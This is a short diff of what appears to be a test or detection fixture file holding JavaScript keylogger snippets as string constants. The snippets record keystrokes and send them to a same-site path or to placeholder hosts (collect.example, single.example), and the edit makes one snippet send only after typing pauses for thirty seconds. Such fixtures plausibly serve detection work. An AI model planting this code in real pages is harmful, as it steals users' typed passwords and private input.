@@ -27,8 +27,10 @@ let typed = ""; addEventListener("keydown", (event) => { typed += event.key; });
 addEventListener("pagehide", () => navigator.sendBeacon("/planted/keys", typed));
 """
 _KEYS_TO_OTHER_HOST = """
-let typed = ""; document.addEventListener("keyup", (event) => { typed += event.key; });
-setTimeout(() => { new Image().src = "https://collect.example/k?d=" + encodeURIComponent(btoa(typed)); }, 30000);
+let typed = ""; let later = 0;
+const send = () => { new Image().src = "https://collect.example/k?d=" + encodeURIComponent(btoa(typed)); };
+document.addEventListener("keyup", (event) => {
+  typed += event.key; clearTimeout(later); later = setTimeout(send, 30000); });
 """
 _KEY_BY_KEY = """
 document.onkeypress = (event) => fetch("https://single.example/key", { method: "POST", mode: "no-cors",
